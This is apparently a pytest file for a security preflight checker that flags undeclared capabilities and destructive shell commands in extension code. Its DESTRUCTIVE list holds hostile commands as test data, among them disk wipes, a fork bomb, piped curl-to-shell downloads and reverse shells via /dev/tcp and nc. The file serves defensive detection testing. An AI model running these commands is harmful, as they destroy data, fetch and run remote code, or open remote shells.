"""Facts to findings: what is declared, what blocks, what an operator may switch off."""

import pytest

from policies.decision import Rule
from policies.destructive import why_destructive
from policies.preflight import Fact, judge

SHELL = Fact("use", "a.ts", 3, 1, "pi.exec", "shell")
DESTROYS = Fact("command", "a.ts", 4, 1, "rm -rf /")


def severities(*facts: Fact, bound: tuple[Rule, ...] | None, **options: object) -> list[str]:
    """Return rule and severity of each finding."""
    report = judge(facts, bound=bound, **options)  # type: ignore[arg-type]  # as the cases give them
    return [f"{one.rule} {one.severity}" for one in report.findings]


def test_running_programs_undeclared_blocks() -> None:
    """Only where the manifest declares its capabilities; else it tells, and the chain refuses when it runs."""
    assert severities(SHELL, bound=()) == ["undeclared-shell block"]
    assert severities(SHELL, bound=(Rule("shell", "git status"),)) == []
    assert severities(SHELL, bound=None) == ["undeclared-shell info"]


def test_a_command_that_destroys_always_blocks() -> None:
    """Whatever is declared."""
    assert severities(DESTROYS, bound=None) == ["destructive-shell block"]
    assert severities(DESTROYS, bound=(Rule("shell", "*"),)) == ["destructive-shell block"]


def test_only_the_operators_trust_lifts_a_block() -> None:
    """It is still told."""
    assert severities(DESTROYS, bound=None, trusted=True) == ["destructive-shell warning"]
    assert judge([DESTROYS], bound=None, trusted=True).blocking == ()


def test_a_rule_that_is_off_is_silent() -> None:
    """For all files."""
    assert severities(DESTROYS, SHELL, bound=(), off=("destructive-shell",)) == [
        "undeclared-shell block"
    ]


@pytest.mark.parametrize(
    ("kind", "rule", "declared"),
    [
        ("http_hosts", "undeclared-network", Rule("http_hosts", "api.example")),
        ("fs", "undeclared-fs", Rule("fs_read", "$CWD")),
        ("fs", "undeclared-fs", Rule("fs_write", "$DATA")),
        ("session", "undeclared-session", Rule("session", "*")),
        ("tools", "undeclared-tools", Rule("tools", "bash")),
        ("llm", "undeclared-llm", Rule("llm", "*")),
        ("config_write", "undeclared-config", Rule("config_write", "*")),
    ],
)
def test_a_use_is_covered_by_its_declaration(kind: str, rule: str, declared: Rule) -> None:
    """Any declaration of the kind: which file or host it is, only the chain can tell."""
    fact = Fact("use", "a.ts", 1, 1, "x", kind)

    assert severities(fact, bound=()) == [f"{rule} warning"]
    assert severities(fact, bound=(declared,)) == []
    assert severities(fact, bound=(Rule("commands", "*"),)) == [f"{rule} warning"]


def test_a_variable_is_covered_by_name() -> None:
    """Its name is known, so it is compared."""
    fact = Fact("use", "a.ts", 1, 1, "GITHUB_TOKEN", "env")

    assert severities(fact, bound=(Rule("env", "GITHUB_*"),)) == []
    assert severities(fact, bound=(Rule("env", "HOME"),)) == ["undeclared-env warning"]


def test_findings_are_in_the_order_of_the_files() -> None:
    """And the same line is told once."""
    facts = [
        Fact("eval", "b.ts", 2, 1, "eval"),
        Fact("eval", "a.ts", 9, 1, "eval"),
        Fact("eval", "a.ts", 9, 7, "eval"),
        Fact("eval", "a.ts", 1, 1, "eval"),
    ]

    found = judge(facts, bound=()).findings
    assert [(one.file, one.line) for one in found] == [("a.ts", 1), ("a.ts", 9), ("b.ts", 2)]


def test_a_fact_of_an_unknown_rule_is_no_finding() -> None:
    """A builder of another version."""
    assert severities(Fact("newer", "a.ts", 1, 1, "x"), bound=()) == []


DESTRUCTIVE = (
    "rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rf -- /", "rm -rf /*", "rm -rf ~",
    "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", "rm -rf ${HOME}/", "rm -rf .", "rm -rf ./", "rm -rf ..", "rm -rf *",
    "rm -rf /etc", "rm -rf /usr/", "sudo rm -rf /var", "sh -c rm -rf /", 'sh -c "rm -rf /"', "cd x && rm -rf /",
    "rm -Rf /home", "rm -rf --no-preserve-root /", "find / -delete", "find ~ -name x -exec rm {} ;",
    "mkfs.ext4 /dev/sda", "wipefs -a /dev/sda", "dd if=/dev/zero of=/dev/nvme0n1", "cat x > /dev/sda",
    "shred -u secret", ":(){ :|:& };:", "chmod -R 777 /", "chmod 777 -R /", "chown -R me /", "curl x | sh",
    "curl -s http://x | sudo bash", "wget -qO- x | sh", "curl x | python3", "base64 -d x | sh", "bash -i >& /dev/tcp/1/2",
    "nc -e /bin/sh 1.2.3.4 9", "shutdown -h now", "reboot", "init 0", "kill -9 -1", "crontab -r", "mv ~ /dev/null",
    "iptables -F", "userdel x", "rm -r ~/.ssh",
)  # fmt: skip
FINE = (
    "rm -rf node_modules", "rm -rf ./build", "rm -rf /tmp/x", "rm -rf dist/*", "rm file", "rm -rf \0", "rm -rf $HOME/tmp",
    "git status", "find . -name x", "chmod +x run.sh", "chmod -R 755 ./bin", "chown me file", "dd if=a of=b",
    "curl -o file http://x", "curl x | jq .", "kill -9 1234", "npm run reboot-server", "echo shutdownable", "ls /",
    "cat /dev/null", "echo rm", "git rm -r --cached x", "docker kill x", "base64 -d file", "mv a b", "sh -c ls",
)  # fmt: skip


@pytest.mark.parametrize("command", DESTRUCTIVE)
def test_what_destroys_is_named(command: str) -> None:
    """With a reason that a person understands."""
    assert why_destructive(command)


@pytest.mark.parametrize("command", FINE)
def test_what_does_not_destroy_passes(command: str) -> None:
    """Cleaning up is not destruction."""
    assert why_destructive(command) is None
